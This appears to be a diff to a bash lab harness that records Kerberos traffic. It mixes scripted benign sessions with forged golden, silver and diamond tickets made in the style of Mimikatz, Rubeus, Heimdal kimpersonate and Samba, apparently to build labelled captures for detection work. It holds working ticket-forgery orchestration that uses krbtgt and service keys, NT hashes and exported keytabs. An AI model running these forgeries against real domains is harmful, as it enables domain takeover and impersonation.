@@ -21,9 +21,11 @@ with() {
 
 # Honest things to do. HOST WHO ...
 login() { # login HOST WHO [KINIT OPTIONS]; the password is USER_PW unless PW says otherwise
-	local h=$1 who=$2; shift 2
+	local h=$1 who=$2 kinit=kinit; shift 2
+	[[ " $HEIMDAL_DESKS " = *" $h "* && $# = 0 && -z ${CONF:-} ]] &&
+		kinit="$HEIMDAL/usr/bin/kinit.heimdal --password-file=STDIN"
 	on "$h" env KRB5_CONFIG="${CONF:-/etc/krb5.conf}" timeout 20 bash -c \
-		'pw=$1; shift; echo "$pw" | kinit "$@"' kinit "${PW:-$USER_PW}" \
+		'pw=$1 kinit=$2; shift 2; echo "$pw" | $kinit "$@"' kinit "${PW:-$USER_PW}" "$kinit" \
 		-c "$(cc "$h" "$who")" "$@" "$who" >>"$LAB/log/clients" 2>&1
 	local rc=$?
 	keep "$h" "$who"
@@ -41,7 +43,7 @@ smb() { # smb HOST WHO SERVER [sign|encrypt]
 		--use-krb5-ccache="$(cc "$1" "$2")" --client-protection="${4:-sign}" -c 'ls'
 }
 web() {
-	with "$1" "$2" curl -sS -f --negotiate -u : ${4:-} "http://${3:-intra.$DOMAIN}/index.html"
+	with "$1" "$2" curl -sS -f --negotiate -u : ${4:-} "http://${3:-$WEB.$DOMAIN}/index.html"
 }
 ldap() { # ldap HOST WHO GSSAPI|GSS-SPNEGO
 	with "$1" "$2" ldapsearch -Q -N -Y "$3" -H "ldap://$DC.$DOMAIN" -b "" -s base dnsHostName
@@ -75,7 +77,7 @@ s4u() { # svc-front acts for a user towards the web service
 	local h=$1 user=$2
 	with "$h" svc-front kinit -k -t "$LAB/keys/dc.keytab" -f svc-front
 	with "$h" svc-front kvno -q -k "$LAB/keys/dc.keytab" -U "$user" svc-front
-	with "$h" svc-front kvno -q -k "$LAB/keys/dc.keytab" -U "$user" -P "HTTP/intra.$DOMAIN"
+	with "$h" svc-front kvno -q -k "$LAB/keys/dc.keytab" -U "$user" -P "HTTP/$WEB.$DOMAIN"
 }
 u2u() { # u2u HOST WHO: a ticket under the session key of the host's own TGT
 	machine "$1"
@@ -98,7 +100,7 @@ pkinit() { # a certificate instead of a password
 }
 delegate() { # the web service gets a forwarded TGT and acts with it from its own host
 	login "$1" "$2" -f
-	web "$1" "$2" "intra.$DOMAIN" '--delegation always'
+	web "$1" "$2" "$WEB.$DOMAIN" '--delegation always'
 	on "$FS" sh -c 'cp "/run/deleg/$1" "$2"' deleg "$2@$REALM" "$(cc "$FS" "$2")"
 	keep "$FS" "$2"
 	ldap "$FS" "$2" GSSAPI; web "$FS" "$2" "$GATE.$MIT_DOMAIN"
@@ -149,7 +151,7 @@ session() { # session HOST WHO SEED: a working session, its length and content f
 	case $((r % 9)) in
 	0) renew "$h" "$who"; smb "$h" "$who" "$FS" ;;
 	2) web "$h" "$who" "$GATE.$MIT_DOMAIN" ;;
-	4) web "$h" "$who" "intra.$DOMAIN" '--delegation always' ;;
+	4) web "$h" "$who" "$WEB.$DOMAIN" '--delegation always' ;;
 	5) PW=not-it login "$h" "$who"; login "$h" "$who"; web "$h" "$who" ;;
 	7) with "$h" "$who" "$HERE/client" smb "$FS.$DOMAIN" ;;
 	esac
@@ -159,7 +161,7 @@ desk_day() { # desk_day HOST INDEX SESSIONS
 	local h=$1 n=$2 i
 	machine "$h"; smb "$h" "${h^^}\$" "$DC"; ldap "$h" "${h^^}\$" GSSAPI
 	for ((i = 0; i < $3; i++)); do
-		session "$h" "$(user $((n * 3 + i)))" $((n * 5 + i * 7))
+		session "$h" "$(user $((n * 3 + i + SEED)))" $((n * 5 + i * 7 + SEED))
 	done
 }
 
@@ -198,8 +200,8 @@ colleagues() { # colleagues FROM TO
 		((i % 2)) && ldap "$d" "$u" GSSAPI || rpc "$d" "$u"
 	done
 }
-morning() { winbind_up; colleagues 0 4; }
-evening() { colleagues 4 6; }
+morning() { winbind_up; colleagues 0 "$MORNING"; }
+evening() { colleagues 4 "$EVENING"; }
 
 sid() { grep -m1 '^S-1-5' "$LAB/log/populate"; }
 forge() { # forge VERB NAME OPTIONS: makes $LAB/forged/NAME.ccache
@@ -208,11 +210,51 @@ forge() { # forge VERB NAME OPTIONS: makes $LAB/forged/NAME.ccache
 		--domain "$DOMAIN" --netbios "$NETBIOS" --sid "$(sid)" \
 		--keytab "$LAB/keys/dc.keytab" "$@") >>"$LAB/log/forge" 2>&1 || say "forge $name failed"
 }
-pocket() { # pocket NAME: the rogue host takes a forged ccache as its own
-	cp "$LAB/forged/$1.ccache" "$(cc "$ROGUE" "$1")"; keep "$ROGUE" "$1"
+shapes() { # shapes VERB NAME OPTIONS: the same, in the shape of another tool
+	local verb=$1 name=$2; shift 2
+	(cd "$HERE" && /usr/bin/python3 ./forge-shapes "$verb" "$LAB/forged/$name.ccache" \
+		--domain "$DOMAIN" --realm "$REALM" --netbios "$NETBIOS" --sid "$(sid)" \
+		--keytab "$LAB/keys/dc.keytab" "$@") >>"$LAB/log/forge" 2>&1 ||
+		{ say "shapes $name failed"; FAILED=1; }
+}
+samba_forge() { # samba_forge VERB NAME OPTIONS: the same, with Samba's test library
+	local verb=$1 name=$2; shift 2
+	(cd "$HERE" && /usr/bin/python3 ./forge-samba "$verb" "$LAB/forged/$name.ccache" \
+		--domain "$DOMAIN" --realm "$REALM" --netbios "$NETBIOS" --sid "$(sid)" --dc "$DC" \
+		--keytab "$LAB/keys/dc.keytab" "$@") >>"$LAB/log/forge" 2>&1 ||
+		{ say "samba_forge $name failed"; FAILED=1; }
+}
+export_key() { # export_key FILE SPN: a keytab that names its key as the service
+	on "$DC" samba-tool domain exportkeytab "$LAB/keys/$1.keytab" --principal="$2" \
+		>>"$LAB/log/populate" 2>&1
+	chmod 644 "$LAB/keys/$1.keytab"
+}
+impersonate() { # impersonate NAME KEYTAB SPN [OPTIONS]: the same, with Heimdal's kimpersonate
+	local name=$1 keytab=$2 spn=$3; shift 3
+	on "$ROGUE" "$HEIMDAL/usr/sbin/kimpersonate" -5 -k "$keytab" -s "$spn@$REALM" \
+		-c "administrator@$REALM" --ccache="$LAB/forged/$name.ccache" -e 36000 "$@" \
+		>>"$LAB/log/forge" 2>&1 ||
+		{ say "impersonate $name failed"; FAILED=1; }
+}
+asks() { # asks HOST WHO asktgt|asktgs OPTIONS: the requests that Rubeus makes itself
+	local h=$1 who=$2 verb=$3 out; out=$(cc "$h" "$who"); shift 3
+	on "$h" env PYTHONPATH="$HERE" timeout 20 /usr/bin/python3 "$HERE/forge-shapes" "$verb" \
+		"$out" --template "$out" --realm "$REALM" --kdc "$(ip4 "$DC")" "$@" \
+		</dev/null >>"$LAB/log/clients" 2>&1
+	local rc=$?
+	keep "$h" "$who"
+	echo "rc=$rc $h $who: $verb $*" >>"$LAB/log/clients"
+	return $rc
+}
+pocket() { # pocket NAME [HOST]: the rogue host takes a forged ccache as its own
+	install -m 600 "$LAB/forged/$1.ccache" "$(cc "${2:-$ROGUE}" "$1")"; keep "${2:-$ROGUE}" "$1"
 }
 KRBTGT() { echo krbtgt; }
 kvno_now() { echo $((KRBTGT_ROT + 1)); }
+kvno_of_fs() { # the member's newest key version
+	(cd "$HERE" && /usr/bin/python3 -c 'import sys; from tickets import read_keytab
+print(max(k[2] for k in read_keytab(sys.argv[1])))' "$LAB/keys/fs.keytab")
+}
 
 must() { # must CMD...: what an attack's description claims; mustnt likewise
 	"$@" && return 0
@@ -235,7 +277,7 @@ use_tgt() { # use_tgt must|mustnt NAME: what a golden ticket is for
 
 # The scenarios. Each function name is "s_" and the capture's name with _ for -.
 s_benign_day() { start benign-day; winbind_up; day 12; rare; stop benign-day; }
-s_benign() { start benign; winbind_up; day 5; rare; stop benign; }
+s_benign() { start benign; winbind_up; day "$SESSIONS"; rare; stop benign; }
 s_benign_hour() { # small, for the derived forms
 	start benign-hour --time-stamp-precision=nano
 	login desk1 "$(user 3)"; smb desk1 "$(user 3)" "$FS"; web desk1 "$(user 3)"
@@ -285,7 +327,7 @@ s_silver_smb() {
 	evening; stop silver-smb
 }
 s_silver_http() {
-	forge stock silver-http --key-of svc-web --spn "HTTP/intra.$DOMAIN"
+	forge stock silver-http --key-of svc-web --spn "HTTP/$WEB.$DOMAIN"
 	start silver-http; morning
 	pocket silver-http; must web "$ROGUE" silver-http; must web "$ROGUE" silver-http
 	evening; stop silver-http
@@ -293,11 +335,114 @@ s_silver_http() {
 s_silver_refused() {
 	forge stock silver-refused --keytab "$LAB/keys/fs.keytab" --key-of "${FS^^}\$" \
 		--spn "cifs/$FS.$DOMAIN" --wrong-key
-	forge stock silver-refused-http --key-of svc-web --spn "HTTP/intra.$DOMAIN" --wrong-key
+	forge stock silver-refused-http --key-of svc-web --spn "HTTP/$WEB.$DOMAIN" --wrong-key
 	start silver-refused; morning
 	pocket silver-refused; mustnt with "$ROGUE" silver-refused "$HERE/client" smb "$FS.$DOMAIN"
 	pocket silver-refused-http; mustnt web "$ROGUE" silver-refused-http
 	evening; stop silver-refused
+}
+# Other forgers than the stock tool. Where neither must nor mustnt stands, the answer depends on the
+# lab: it may use the very key version that a tool writes.
+hash_of() { on "$DC" "$HERE/populate" nthash "$1"; }
+member() { "$@" --keytab "$LAB/keys/fs.keytab" --key-of "${FS^^}\$" --spn "cifs/$FS.$DOMAIN"; }
+webapp() { "$@" --key-of svc-web --spn "HTTP/$WEB.$DOMAIN"; }
+attack() { # attack NAME CMD...: one capture, colleagues around it
+	local n=$1; shift
+	[ "${MM_SET:-main}" = main ] && local MORNING=1 EVENING=4 # those that are shipped are small
+	start "$n"; morning; "$@"; evening; stop "$n"
+}
+tries() { # tries NAME HOST: a forged TGT and the stock clients
+	pocket "$1" "${2:-}"
+	ask "${2:-$ROGUE}" "$1" "cifs/$FS.$DOMAIN" && smb "${2:-$ROGUE}" "$1" "$FS" &&
+		ldap "${2:-$ROGUE}" "$1" GSSAPI
+}
+tries_asktgs() { # tries_asktgs NAME [--opsec]: the same, tickets asked for as Rubeus asks
+	local n=$1; shift
+	pocket "$n"
+	asks "$ROGUE" "$n" asktgs "$@" --spn "cifs/$FS.$DOMAIN,ldap/$DC.$DOMAIN" &&
+		smb "$ROGUE" "$n" "$FS"
+}
+tries_smb() { pocket "$1"; smb "$ROGUE" "$1" "$FS"; }
+tries_web() { pocket "$1"; web "$ROGUE" "$1"; web "$ROGUE" "$1"; }
+s_heimdal_silver_http() {
+	impersonate heimdal-silver-http "$LAB/keys/web.keytab" "HTTP/$WEB.$DOMAIN"
+	attack heimdal-silver-http must tries_web heimdal-silver-http
+}
+s_heimdal_silver_smb() { # no PAC: a member server wants one
+	export_key cifs "cifs/$FS.$DOMAIN"
+	impersonate heimdal-silver-smb "$LAB/keys/cifs.keytab" "cifs/$FS.$DOMAIN"
+	attack heimdal-silver-smb mustnt tries_smb heimdal-silver-smb
+}
+s_heimdal_golden() { # no PAC: the KDC wants one
+	export_key tgs "krbtgt/$REALM"
+	impersonate heimdal-golden "$LAB/keys/tgs.keytab" "krbtgt/$REALM" -f initial,forwardable
+	attack heimdal-golden mustnt tries heimdal-golden
+}
+s_samba_golden() { # all buffers a KDC writes, the right kvno
+	samba_forge tgt samba-golden --key-of krbtgt --kvno "$(kvno_now)"
+	attack samba-golden must tries samba-golden
+}
+s_samba_golden_desk() { # the same from a desk where people work honestly
+	samba_forge tgt samba-golden-desk --key-of krbtgt --kvno "$(kvno_now)"
+	attack samba-golden-desk must tries samba-golden-desk desk1
+}
+s_samba_silver() {
+	member samba_forge service samba-silver --kvno "$(kvno_of_fs)"
+	attack samba-silver must tries_smb samba-silver
+}
+s_samba_diamond() {
+	start samba-diamond; morning
+	login "$ROGUE" "$(user 1)"
+	samba_forge diamond samba-diamond --key-of krbtgt --template "$(cc "$ROGUE" "$(user 1)")"
+	must tries samba-diamond; evening; stop samba-diamond
+}
+s_mimikatz_golden() { # as it comes: RC4, kvno 2, the realm as typed, four PAC buffers
+	shapes mimikatz mimikatz-golden --nthash "$(hash_of krbtgt)"
+	attack mimikatz-golden mustnt tries mimikatz-golden
+}
+s_mimikatz_golden_aes() { # /aes256, and an operator who types the realm in capitals
+	shapes mimikatz mimikatz-golden-aes --key-of krbtgt --etype 18 --domain "$REALM"
+	attack mimikatz-golden-aes mustnt tries mimikatz-golden-aes
+}
+s_mimikatz_silver() { # /rc4 /service:cifs
+	member shapes mimikatz mimikatz-silver --nthash "$(hash_of "${FS^^}\$")"
+	attack mimikatz-silver tries_smb mimikatz-silver
+}
+s_mimikatz_silver_aes() {
+	webapp shapes mimikatz mimikatz-silver-aes --etype 18 --domain "$REALM"
+	attack mimikatz-silver-aes must tries_web mimikatz-silver-aes
+}
+s_rubeus_golden() { # /rc4, no /newpac, asktgs
+	shapes rubeus rubeus-golden --nthash "$(hash_of krbtgt)"
+	attack rubeus-golden mustnt tries_asktgs rubeus-golden
+}
+s_rubeus_golden_aes() { # /aes256 /newpac, the Windows way: the stack of the host asks
+	shapes rubeus rubeus-golden-aes --key-of krbtgt --etype 18 --newpac
+	attack rubeus-golden-aes tries rubeus-golden-aes
+}
+s_rubeus_golden_kvno() { # the same, told the right kvno; asktgs /opsec
+	shapes rubeus rubeus-golden-kvno --key-of krbtgt --etype 18 --newpac --kvno "$(kvno_now)"
+	attack rubeus-golden-kvno must tries_asktgs rubeus-golden-kvno --opsec
+}
+s_rubeus_silver() { # /aes256 /service:cifs
+	member shapes rubeus rubeus-silver --etype 18
+	attack rubeus-silver must tries_smb rubeus-silver
+}
+s_rubeus_silver_http() { # /rc4 /service:HTTP
+	webapp shapes rubeus rubeus-silver-http --nthash "$(hash_of svc-web)"
+	attack rubeus-silver-http tries_web rubeus-silver-http
+}
+s_rubeus_diamond() { # asktgt in sight, reopened, asktgs /opsec
+	start rubeus-diamond; morning
+	local u; u=$(user 1)
+	asks "$ROGUE" "$u" asktgt --user "$u" --password "$USER_PW"
+	shapes diamond rubeus-diamond --key-of krbtgt --etype 18 --user "$u" \
+		--template "$(cc "$ROGUE" "$u")"
+	pocket rubeus-diamond
+	asks "$ROGUE" rubeus-diamond asktgs --opsec --user "$u" \
+		--spn "cifs/$FS.$DOMAIN,ldap/$DC.$DOMAIN" &&
+		smb "$ROGUE" rubeus-diamond "$FS"
+	evening; stop rubeus-diamond
 }
 s_spn_substitution() { # host/ became cifs/ in the clear part: same account, same key
 	start spn-substitution; morning
@@ -313,7 +458,7 @@ s_late_sensor() {
 	winbind_up
 	for ((i = 0; i < 8; i++)); do
 		u=$(user $i); login "${h[$i % 4]}" "$u"
-		ask "${h[$i % 4]}" "$u" "cifs/$FS.$DOMAIN" "HTTP/intra.$DOMAIN" "ldap/$DC.$DOMAIN"
+		ask "${h[$i % 4]}" "$u" "cifs/$FS.$DOMAIN" "HTTP/$WEB.$DOMAIN" "ldap/$DC.$DOMAIN"
 	done
 	machine desk1; ask desk1 'DESK1$' "cifs/$DC.$DOMAIN"
 	start late-sensor
@@ -354,12 +499,12 @@ web_keytab() { # web_keytab FILE...: the web service's keytab becomes these, in 
 }
 s_rekeyed_service() {
 	local u=("$(user 0)" "$(user 1)" "$(user 2)" "$(user 3)")
-	login desk2 "${u[1]}"; ask desk2 "${u[1]}" "HTTP/intra.$DOMAIN" "cifs/$FS.$DOMAIN"
+	login desk2 "${u[1]}"; ask desk2 "${u[1]}" "HTTP/$WEB.$DOMAIN" "cifs/$FS.$DOMAIN"
 	start rekeyed-service; winbind_up
 	login desk1 "${u[0]}"; web desk1 "${u[0]}"; smb desk1 "${u[0]}" "$FS"
 	on "$DC" "$HERE/populate" rekey svc-web
 	on "$DC" samba-tool domain exportkeytab "$LAB/keys/web2.keytab" \
-		--principal="HTTP/intra.$DOMAIN" >>"$LAB/log/populate" 2>&1
+		--principal="HTTP/$WEB.$DOMAIN" >>"$LAB/log/populate" 2>&1
 	web_keytab "$LAB/keys/web.keytab" "$LAB/keys/web2.keytab"
 	web desk1 "${u[0]}"; web desk2 "${u[1]}"
 	login desk3 "${u[2]}"; web desk3 "${u[2]}"
